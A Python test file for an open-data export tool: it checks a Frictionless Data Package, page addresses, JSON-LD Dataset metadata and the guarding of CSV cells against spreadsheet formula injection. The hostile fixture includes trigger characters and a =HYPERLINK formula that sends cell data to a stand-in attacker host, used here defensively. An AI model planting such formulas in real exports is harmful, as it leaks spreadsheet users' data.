"""Open data that data tools read: the Frictionless Data Package of the CSV tables (checked by
the `frictionless` library, as a data user would), the Dataset description on the open-data
page, absolute addresses when the site's address is known, and CSV cells that a spreadsheet
would run as formulas."""

from __future__ import annotations

import ast
import csv
import json
import re
import shutil
import tomllib
from pathlib import Path
from urllib.parse import urljoin

import icalendar
import pytest
from frictionless import validate

from macros import csv_tables, exports, linked_data
from macros.core import KnowledgeBase, load
from macros.core.models import FOLDERS, KINDS
from macros.i18n import t
from macros.pages.blocks import json_ld_html
from macros.urls import Ctx, page_path
from tests.conftest import FIXTURES, ROOT, VALID

SITE_URL = "https://kyocho.example.org/"
HOSTILE = FIXTURES / "hostile"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def build(data: Path, out: Path, site_url: str | None = SITE_URL) -> tuple[KnowledgeBase, Path]:
    kb = load(data)
    assert not kb.errors, kb.errors
    exports.write_exports(kb, out, site_url=site_url)
    return kb, out / "data"


def read_csv(path: Path) -> dict[str, dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return {row["id"]: row for row in csv.DictReader(fh)}


def problems(report) -> list[str]:
    return [f"{task.name}: {e.type}: {e.message}" for task in report.tasks for e in task.errors] + \
        [f"{e.type}: {e.message}" for e in report.errors]


@pytest.fixture(scope="module")
def fixture_exports(tmp_path_factory):
    return build(VALID, tmp_path_factory.mktemp("open-data"))


@pytest.fixture(scope="module")
def hostile_exports(tmp_path_factory):
    return build(HOSTILE, tmp_path_factory.mktemp("hostile-open-data"))


# -- the Data Package --------------------------------------------------------------------
@pytest.mark.parametrize("data", [VALID, ROOT / "data", HOSTILE], ids=["fixture", "real", "hostile"])
def test_frictionless_finds_every_table_valid_against_the_package(data, tmp_path):
    kb, out = build(data, tmp_path)
    report = validate(str(out / "datapackage.json"))
    assert report.valid, "\n".join(problems(report)[:20])
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert [r["name"] for r in package["resources"]] == list(KINDS)
    assert {r["path"] for r in package["resources"]} == {f"csv/{p.name}" for p in (out / "csv").iterdir()}
    for resource in package["resources"]:
        kind = resource["name"]
        with (out / resource["path"]).open(encoding="utf-8-sig", newline="") as fh:
            header = next(csv.reader(fh))
        assert [f["name"] for f in resource["schema"]["fields"]] == header, kind
        assert resource["schema"]["primaryKey"] == ["id"]
        assert len(read_csv(out / resource["path"])) == len(kb.records[kind])


def test_the_package_gives_types_keys_and_meanings(fixture_exports):
    _, out = fixture_exports
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert package["version"] == exports.SCHEMA_VERSION
    assert package["homepage"] == SITE_URL + "open-data/"
    meeting = next(r for r in package["resources"] if r["name"] == "meeting")["schema"]
    fields = {f["name"]: f for f in meeting["fields"]}
    assert fields["start"]["type"] == "date" and fields["start"]["constraints"]["required"]
    assert fields["place_virtual"]["type"] == "boolean"
    assert fields["parties"] == {**fields["parties"], "type": "list", "delimiter": ";", "itemType": "string"}
    assert "ministerial" in fields["kind"]["constraints"]["enum"]
    assert fields["title_ja"]["description"].startswith("Official title / 正式名称")
    assert fields["sources"]["constraints"]["required"]
    assert fields["page_url_en"]["format"] == "uri"
    assert {"fields": ["forum"], "reference": {"resource": "forum", "fields": ["id"]}} in meeting["foreignKeys"]
    document = next(r for r in package["resources"] if r["name"] == "document")["schema"]
    assert {"fields": ["annex_of"], "reference": {"resource": "document", "fields": ["id"]}} in document["foreignKeys"]


def test_frictionless_reports_a_table_that_breaks_the_package(fixture_exports, tmp_path):
    _, out = fixture_exports
    broken = tmp_path / "data"
    shutil.copytree(out, broken)
    path = broken / "csv" / "meeting.csv"
    text = path.read_text(encoding="utf-8-sig")
    text = text.replace("bilateral-ke-2023-signing,bilateral-ke,", "bilateral-ke-2023-signing,no-such-forum,")
    text = text.replace(",2016-04-29,2016-04-30,", ",2016-04-29,30 April 2016,")
    path.write_text(text, encoding="utf-8-sig")
    found = problems(validate(str(broken / "datapackage.json")))
    assert any("foreign-key" in p and "no-such-forum" in p for p in found), found
    assert any("type-error" in p and "30 April 2016" in p for p in found), found


def test_the_build_does_not_need_frictionless():
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    assert not any(d.startswith("frictionless") for d in project["dependencies"])
    assert any(d.startswith("frictionless") for d in project["optional-dependencies"]["test"])
    for path in [*(ROOT / "macros").rglob("*.py"), *(ROOT / "scripts").glob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else \
                [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            assert not any(n.split(".")[0] == "frictionless" for n in names), path


# -- spreadsheet formulas ----------------------------------------------------------------
@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("'=already", "''=already"), ("''@twice", "'''@twice"),
    ("'90s", "'90s"), ("a=b", "a=b"), ("", ""), ("G7", "G7"), ("2016-04-29", "2016-04-29"), (" =1", " =1"),
])
def test_a_formula_cell_gets_an_apostrophe_that_can_be_taken_off_again(value, cell):
    assert csv_tables.guard(value) == cell
    assert csv_tables.unguard(cell) == value


def test_hostile_formulas_reach_the_csv_as_text_and_the_json_unchanged(hostile_exports):
    kb, out = hostile_exports
    for kind in KINDS:
        for rid, row in read_csv(out / "csv" / f"{kind}.csv").items():
            for column, cell in row.items():
                assert not cell.startswith(TRIGGERS), (kind, rid, column, cell)
    # The hostile fixture's formulas: every trigger character, and values already quoted.
    cases = [("process", "hostile-process", "aliases", kb.processes["hostile-process"].aliases[0] + ";")]
    for mid in ("g7-2023-digital-ministers-takasaki", "bilateral-ke-2023-signing"):
        rep = kb.meetings[mid].japan_represented_by[0]
        cases += [("meeting", mid, f"japan_represented_by_{part}_{lang}",
                   getattr(getattr(rep, part), lang)) for part in ("name", "title") for lang in ("ja", "en")]
    whole = json.loads((out / "kyocho.json").read_text(encoding="utf-8"))
    for kind, rid, column, value in cases:
        cell = read_csv(out / "csv" / f"{kind}.csv")[rid][column]
        assert cell.startswith("'" + value) and csv_tables.unguard(cell).startswith(value), (column, cell)
    assert {c[3][0] for c in cases} >= {"=", "+", "-", "@", "\t", "\r", "'"}
    rep = {r["id"]: r for r in whole["records"]["meetings"]}["bilateral-ke-2023-signing"]["japan_represented_by"][0]
    assert rep["name"] == {"ja": "\t=1+1", "en": "\r=1+1"}   # kyocho.json keeps the value as it is
    cells = read_csv(out / "csv" / "meeting.csv")["g7-2023-digital-ministers-takasaki"]
    assert cells["japan_represented_by_name_en"] == \
        '\'=HYPERLINK("https://attacker.example/?leak="&A1,"open")'


# -- addresses ---------------------------------------------------------------------------
def test_with_the_site_address_every_export_gives_absolute_page_addresses(fixture_exports):
    kb, out = fixture_exports
    mid = "g7-2016-ict-ministers-takamatsu"
    whole = json.loads((out / "kyocho.json").read_text(encoding="utf-8"))
    assert whole["site_url"] == SITE_URL
    record = {r["id"]: r for r in whole["records"]["meetings"]}[mid]
    assert record["pages"]["en"] == f"en/meetings/{mid}/"
    assert record["urls"] == {"ja": f"{SITE_URL}meetings/{mid}/", "en": f"{SITE_URL}en/meetings/{mid}/"}
    assert whole["site_url"] + record["forum_ref"]["pages"]["en"] == SITE_URL + "en/forums/g7/"
    row = read_csv(out / "csv" / "meeting.csv")[mid]
    assert (row["page_en"], row["page_url_en"]) == (f"en/meetings/{mid}/", f"{SITE_URL}en/meetings/{mid}/")
    events = {str(e["uid"]): e for e in icalendar.Calendar.from_ical((out / "meetings.ics").read_bytes()).walk("VEVENT")}
    for m in kb.meetings:
        assert str(events[f"meeting-{m}@kyocho"]["url"]) == SITE_URL + page_path("meeting", m, "ja")


def test_without_the_site_address_exports_give_paths_and_no_false_addresses(tmp_path):
    kb, out = build(VALID, tmp_path, site_url=None)
    whole = json.loads((out / "kyocho.json").read_text(encoding="utf-8"))
    assert whole["site_url"] is None
    assert all(r["urls"] == {"ja": None, "en": None} for r in whole["records"]["meetings"])
    rows = read_csv(out / "csv" / "meeting.csv").values()
    assert all(r["page_url_ja"] == "" and r["page_ja"].startswith("meetings/") for r in rows)
    cal = icalendar.Calendar.from_ical((out / "meetings.ics").read_bytes())
    assert not any("url" in e for e in cal.walk("VEVENT"))  # iCalendar's URL must be absolute
    assert validate(str(out / "datapackage.json")).valid
    assert "homepage" not in json.loads((out / "datapackage.json").read_text(encoding="utf-8"))


def test_record_pages_name_themselves_in_json_ld_when_the_site_address_is_known(fixture_exports, monkeypatch):
    kb, _ = fixture_exports
    mid = "g7-2016-ict-ministers-takamatsu"
    monkeypatch.setenv("KYOCHO_SITE_URL", SITE_URL)
    tag = json_ld_html(kb, "meeting", mid, Ctx("en", f"meetings/{mid}/"))
    assert f'"@id":"{SITE_URL}en/meetings/{mid}/"' in tag
    monkeypatch.delenv("KYOCHO_SITE_URL")
    assert '"@id"' not in json_ld_html(kb, "meeting", mid, Ctx("en", f"meetings/{mid}/"))


# -- the Dataset on the open-data page ---------------------------------------------------
def test_the_dataset_lists_every_file_at_the_top_of_data(fixture_exports):
    kb, out = fixture_exports
    files = {p.name for p in out.iterdir() if p.is_file()}
    assert {d.path for d in exports.DISTRIBUTIONS} == files
    data = linked_data.dataset(kb, Ctx("en", "open-data/"), SITE_URL)
    assert data["@type"] == "Dataset" and data["@id"] == SITE_URL + "en/open-data/"
    assert data["version"] == exports.SCHEMA_VERSION and data["license"].startswith("https://")
    assert data["temporalCoverage"] == "2016-04-29/2023-05-01"
    formats = {d["contentUrl"]: d["encodingFormat"] for d in data["distribution"]}
    assert formats[SITE_URL + "data/kyocho.json"] == "application/json"
    assert formats[SITE_URL + "data/datapackage.json"] == "application/vnd.datapackage+json"
    assert formats[SITE_URL + "data/meetings.ics"] == "text/calendar"
    assert formats[SITE_URL + "data/feed.ja.atom"] == "application/atom+xml"
    assert formats[SITE_URL + "data/sources.bib"] == "application/x-bibtex"
    assert formats[SITE_URL + "data/citations.en.json"] == "application/vnd.citationstyles.csl+json"
    assert formats[SITE_URL + "data/citations.en.ris"] == "application/x-research-info-systems"
    assert len(formats) == len(exports.DISTRIBUTIONS)
    feed = next(d for d in data["distribution"] if d["contentUrl"].endswith("feed.ja.atom"))
    assert feed["inLanguage"] == "ja" and feed["name"] == "Recently added or changed records (Atom) — in Japanese"


def jsonld_of(html: str) -> list[dict]:
    return [json.loads(m) for m in re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)]


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_the_built_open_data_page_carries_the_dataset_with_addresses_that_resolve(fixture_site, lang):
    page = ("" if lang == "ja" else "en/") + "open-data/"
    html = (fixture_site / page / "index.html").read_text(encoding="utf-8")
    [data] = [d for d in jsonld_of(html) if d.get("@type") == "Dataset"]
    assert data["name"] == t(lang, "dataset_name")
    assert "@id" not in data  # the test build has no site address: links stay relative
    for download in data["distribution"]:
        resolved = urljoin("https://h/" + page, download["contentUrl"])
        assert resolved.startswith("https://h/data/"), download
        assert (fixture_site / resolved[len("https://h/"):]).is_file(), download


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_the_open_data_page_links_every_file(lang):
    text = (ROOT / "docs" / lang / "open-data.md").read_text(encoding="utf-8")
    linked = set(re.findall(r'href="(?:\.\./)+data/([^"]+)"', text))
    expected = {d.path for d in exports.DISTRIBUTIONS} | {f"csv/{kind}.csv" for kind in KINDS}
    assert expected - linked == set(), f"docs/{lang}/open-data.md does not link: {sorted(expected - linked)}"
    assert "{{ open_data_jsonld() }}" in text and "(#formulas)" in text
